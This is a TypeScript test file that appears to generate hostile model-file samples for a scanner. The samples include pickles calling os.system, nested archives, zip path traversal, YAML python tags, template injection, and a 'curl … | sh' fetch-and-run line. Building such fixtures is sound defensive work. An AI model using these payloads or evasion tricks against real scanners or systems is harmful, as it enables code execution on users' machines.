import { createHash } from 'node:crypto';
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import { npySample } from '../../../service/inspect/fuzz/samples.ts';
import { callPickle, op, pickle, plainPickle } from '../pickle.ts';
import { forgeTar } from '../tar.ts';
import { type ForgedMember, forgeZip } from '../zip.ts';
import { cases, type HostileCase, join, json, utf8 } from './case.ts';

const evil = callPickle('os', 'system', 'id');
const elf = join('\x7fELF\x02\x01\x01\x00', new Uint8Array(56));
const zip = (...members: ForgedMember[]): Uint8Array => forgeZip({ members });
const one = (name: string, content: Uint8Array | string, more: Partial<ForgedMember> = {}): Uint8Array =>
  zip({ name, content, ...more });
const base64 = (content: Uint8Array | string): string => Buffer.from(content).toString('base64');
const torch = (data: Uint8Array, more: readonly ForgedMember[] = [], changes: Partial<ForgedMember> = {}): Uint8Array =>
  zip({ name: 'archive/data.pkl', content: data, ...changes }, { name: 'archive/version', content: '3\n' }, ...more);

/** Names under which programs load pickles, and some that scanners skip. */
const names = [
  'model.pkl',
  'model.pickle',
  'model.bin',
  'model.pt',
  'model.pth',
  'model.ckpt',
  'model.joblib',
  'model.dat',
  'model.npy',
  'model.safetensors',
  'model.onnx',
  'model.h5',
  'model.gguf',
  'model.txt',
  'model.json',
  'model.png',
  'model',
  'model.tar',
  'model.zip',
  'README.md',
  'config.json',
  'model.keras',
  'model.tflite',
  'model.pb',
  'model.nemo',
  'model.mar',
  'model.dill',
  'model.data',
];

const opaque: Readonly<Record<string, string>> = {
  '7z': '7z\xbc\xaf\x27\x1c\x00\x04',
  rar: 'Rar!\x1a\x07\x00',
  'rar 5': 'Rar!\x1a\x07\x01\x00',
  cab: 'MSCF\x00\x00\x00\x00',
  arj: '\x60\xea\x2e\x00\x22',
  lzip: 'LZIP\x01\x0c',
  lzop: '\x89LZO\x00\x0d\x0a\x1a\x0a',
  compress: '\x1f\x9d\x90',
  xar: 'xar!\x00\x1c\x00\x01',
  ar: '!<arch>\nmodel.pkl/      ',
  cpio: '070701000000',
  squashfs: 'hsqs\x01\x00\x00\x00',
};

/** Pickles, programs and code in every kind of container and under every name. */
export function containerCases(): HostileCase[] {
  const found: HostileCase[] = [];
  for (const name of names) {
    found.push({ title: `a pickle named ${name}`, name, content: evil, least: 'high' });
    found.push({ title: `a pickle in a gzip named ${name}`, name, content: gzipSync(evil), least: 'high' });
    found.push({ title: `a pickle in a zip named ${name}`, name, content: one('a/data.pkl', evil), least: 'high' });
    found.push({ title: `a pickle in zstandard named ${name}`, name, content: zstdCompressSync(evil), least: 'high' });
    found.push({
      title: `a pickle that breaks named ${name}`,
      name,
      content: join(evil.subarray(0, -1), '\xff'),
      least: 'high',
    });
    found.push({
      title: `a 7z named ${name}`,
      name,
      content: join(opaque['7z'] ?? '', new Uint8Array(60)),
      least: 'high',
    });
  }
  for (const [kind, magic] of Object.entries(opaque)) {
    found.push({
      title: `an archive of ${kind}`,
      name: 'model.bin',
      content: join(magic, new Uint8Array(100)),
      least: 'high',
    });
    found.push({
      title: `an archive of ${kind} in a zip`,
      name: 'model.zip',
      content: one('a', join(magic, new Uint8Array(100))),
      least: 'high',
    });
    found.push({
      title: `an archive of ${kind} in a folder`,
      name: 'm',
      content: { 'config.json': json({ model_type: 'b' }), 'pytorch_model.bin': join(magic, new Uint8Array(100)) },
      least: 'high',
    });
  }
  return [...found, ...zipCases(), ...torchCases(), ...nestedCases(), ...ociCases()];
}

const flagged = (flags: number): Uint8Array => torch(evil, [], { flags });

function torchCases(): HostileCase[] {
  return cases('model.pt', 'high', {
    'a pickle that calls': torch(evil),
    'a second pickle': torch(plainPickle(), [{ name: 'archive/other.pkl', content: evil }]),
    'a pickle with an odd name': torch(plainPickle(), [{ name: 'archive/.hidden', content: evil }]),
    'a pickle with the name of a folder': torch(plainPickle(), [{ name: 'archive/x/', content: evil }]),
    'a pickle in the place of a tensor': torch(plainPickle(), [{ name: 'archive/data/0', content: evil }]),
    'a packed pickle': torch(evil, [], { deflate: true }),
    'a pickle that breaks after the call': torch(join(evil.subarray(0, -1), '\xff\xff')),
    'a pickle that is cut off': torch(evil.subarray(0, -1)),
    'a wrong checksum': torch(evil, [], { crc: 1 }),
    'the flag of encryption': flagged(1),
    'the flag of patched data': flagged(0x20),
    'the flag of strong encryption': flagged(0x40),
    'the flag of strong encryption and encryption': flagged(0x41),
    'all flags': flagged(0xffff & ~0x800),
    'another name in the local header': torch(evil, [], { local: { name: 'archive/data.bin' } }),
    'another method in the local header': torch(evil, [], { local: { method: 99 } }),
    'another size in the local header': torch(evil, [], { local: { size: 1 } }),
    'two pickles of one name': zip(
      { name: 'a/data.pkl', content: plainPickle() },
      { name: 'a/data.pkl', content: evil },
    ),
    'a program in the place of a tensor': torch(plainPickle(), [{ name: 'archive/data/0', content: elf }]),
    'a program beside it': torch(plainPickle(), [{ name: 'archive/extra/lib.so', content: elf }]),
    'a script beside it': torch(plainPickle(), [
      { name: 'archive/code/run.py', content: "import os\nos.system('id')\n" },
    ]),
    'a 7z beside it': torch(plainPickle(), [
      { name: 'archive/x.7z', content: join(opaque['7z'] ?? '', new Uint8Array(40)) },
    ]),
    'TorchScript that maps a file': zip(
      { name: 'm/data.pkl', content: plainPickle() },
      { name: 'm/constants.pkl', content: plainPickle() },
      {
        name: 'm/code/__torch__.py',
        content:
          'class M(Module):\n  def forward(self: __torch__.M) -> Tensor:\n    return torch.from_file("/etc/passwd", True, 10)\n',
      },
    ),
    'TorchScript that saves a file': zip(
      { name: 'm/data.pkl', content: plainPickle() },
      { name: 'm/code/__torch__.py', content: 'def forward(self) -> Tensor:\n  torch.save(x, "/tmp/x")\n' },
    ),
    'a picture': join('\x89PNG\r\n\x1a\n', new Uint8Array(40)),
    'the magic of the old format behind a call': join(
      "cos\nsystem\n(S'id'\ntR0",
      '\x80\x02\x8a\x0alfc\x9cF\xf9 j\xa8P\x19.',
    ),
    'a call behind the magic of the old format': join(
      '\x80\x02\x8a\x0alfc\x9cF\xf9 j\xa8P\x19.',
      '\x80\x02M\xe9\x03.',
      '\x80\x02}.',
      evil,
    ),
  });
}

function zipCases(): HostileCase[] {
  return cases('model.zip', 'high', {
    'a path out of the folder': one('../evil.txt', 'x'),
    'a path out of the folder with backslashes': one('..\\evil.txt', 'x'),
    'a path out of the folder behind a folder': one('a/../../evil.txt', 'x'),
    'an absolute path': one('/etc/cron.d/x', 'x'),
    'a path of Windows': one('C:\\x.txt', 'x'),
    'a share of Windows': one('\\\\host\\share\\x', 'x'),
    'a link': one('a', '/etc/passwd', { mode: 0o120777 }),
    'a device': one('a', '', { mode: 0o020666 }),
    'a program': one('run', elf),
    'a program of Windows': one('run.exe', join('MZ\x90\x00', new Uint8Array(60))),
    'a script': one('setup.sh', '#!/bin/sh\ncurl http://x.invalid/a | sh\n'),
    code: one('handler.py', "import os\nos.system('id')\n"),
    'a member under a password': one('a', 'x', { flags: 1 }),
    'a method that is unknown': one('a.pkl', evil, { method: 99 }),
    bzip2: one('a.pkl', evil, { method: 12 }),
    'a bomb': one('a', new Uint8Array(20_000_000), { deflate: true }),
    'a pickle in a text': one('notes.txt', evil),
    'a pickle in base64 in JSON': one('data', json({ x: base64(evil) })),
    'a pickle in base64 in JSON with a name': one('config.json', json({ policy: { ':serialized:': base64(evil) } })),
    'a pickle in base64 in YAML': one('config.yaml', `policy: ${base64(evil)}\n`),
    'a template in JSON': one('tokenizer_config.json', json({ chat_template: "{{ ''.__class__.__mro__ }}" })),
    'a Python tag in YAML': one('model_config.yaml', "a: !!python/object/apply:os.system ['id']\n"),
    'a Hydra target in YAML': one('model_config.yaml', 'm:\n  _target_: os.system\n'),
    'bytes before the archive': forgeZip({ members: [{ name: 'a', content: 'x' }], prefix: '#!/bin/sh\nid\n' }),
    'a pickle before the archive': forgeZip({ members: [{ name: 'a', content: 'x' }], prefix: evil }),
    'a pickle behind the archive': forgeZip({ members: [{ name: 'a', content: 'x' }], suffix: evil }),
    'a pickle in the comment': forgeZip({
      members: [{ name: 'a', content: 'x' }],
      comment: "cos\nsystem\n(S'id'\ntR.",
    }),
    'a pickle between members and directory': join(
      forgeZip({ members: [{ name: 'a', content: evil }], entries: 0, directorySize: 0 }),
    ),
    'a member of size 0 with content': one('a.pkl', evil, { size: 0, compressedSize: 0 }),
    'an array of objects': one(
      'a.npy',
      join(npySample("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", 0), evil),
    ),
    'a class of Java': one('Evil.class', join('\xca\xfe\xba\xbe\x00\x00\x00\x34', new Uint8Array(40))),
    'a member with the name of a device': one('a\u0000b', 'x'),
  });
}

function nestedCases(): HostileCase[] {
  const layers: Readonly<Record<string, (content: Uint8Array) => Uint8Array>> = {
    zip: (content) => one('a.pkl', content),
    'packed zip': (content) => one('a.pkl', content, { deflate: true }),
    tar: (content) => forgeTar('a.pkl', content),
    gzip: (content) => gzipSync(content),
    zlib: (content) => deflateSync(content),
    zstandard: (content) => zstdCompressSync(content),
    pickle: (content) => pickle(op.proto(4), op.bytes(content), op.stop),
    torch: (content) => torch(plainPickle(), [{ name: 'archive/extra', content }]),
  };
  const found: HostileCase[] = [];
  for (const [outer, wrapOuter] of Object.entries(layers))
    for (const [inner, wrapInner] of Object.entries(layers))
      found.push({
        title: `a pickle in ${inner} in ${outer}`,
        name: 'model.bin',
        content: wrapOuter(wrapInner(evil)),
        least: 'high',
      });
  found.push({ title: 'a pickle in raw deflate', name: 'model.pkl', content: deflateRawSync(evil), least: 'high' });
  found.push({ title: 'a pickle in brotli', name: 'model.pkl', content: brotliCompressSync(evil), least: 'high' });
  return found;
}

const sha256 = (content: Uint8Array): string => createHash('sha256').update(content).digest('hex');

function layout(layer: Uint8Array, mediaType: string): Record<string, Uint8Array> {
  const descriptor = (content: Uint8Array, type: string): object => ({
    mediaType: type,
    digest: `sha256:${sha256(content)}`,
    size: content.length,
  });
  const config = json({});
  const manifest = json({
    schemaVersion: 2,
    config: descriptor(config, 'application/vnd.kitops.modelkit.config.v1+json'),
    layers: [descriptor(layer, mediaType)],
  });
  return {
    'oci-layout': json({ imageLayoutVersion: '1.0.0' }),
    'index.json': json({
      schemaVersion: 2,
      manifests: [descriptor(manifest, 'application/vnd.oci.image.manifest.v1+json')],
    }),
    [`blobs/sha256/${sha256(config)}`]: config,
    [`blobs/sha256/${sha256(manifest)}`]: manifest,
    [`blobs/sha256/${sha256(layer)}`]: layer,
  };
}

function ociCases(): HostileCase[] {
  const folder = (title: string, content: Record<string, Uint8Array>): HostileCase => ({
    title: `${title} (OCI)`,
    name: 'kit',
    content,
    least: 'high',
  });
  const type = 'application/vnd.kitops.modelkit.model.v1.tar';
  const tar = forgeTar('model.pkl', evil);
  const plain = layout(forgeTar('a', utf8('x')), type);
  return [
    folder('a pickle in a layer', layout(tar, type)),
    folder('a pickle in a packed layer', layout(gzipSync(tar), `${type}+gzip`)),
    folder('a pickle in a layer of zstandard', layout(zstdCompressSync(tar), `${type}+zstd`)),
    folder(
      'a path out of the folder in a layer',
      layout(gzipSync(forgeTar('../../etc/cron.d/x', utf8('x'))), `${type}+gzip`),
    ),
    folder('an absolute path in a layer', layout(forgeTar('/etc/cron.d/x', utf8('x')), type)),
    folder('a raw layer that is a pickle', layout(evil, 'application/vnd.cncf.model.weight.v1.raw')),
    folder('a layer of another digest', {
      ...plain,
      ...Object.fromEntries(
        Object.entries(plain)
          .filter(([path]) => path.startsWith('blobs/'))
          .slice(-1)
          .map(([path, content]) => [path, content.map((byte) => byte ^ 1)]),
      ),
    }),
    folder('no index', { 'oci-layout': json({ imageLayoutVersion: '1.0.0' }) }),
  ];
}
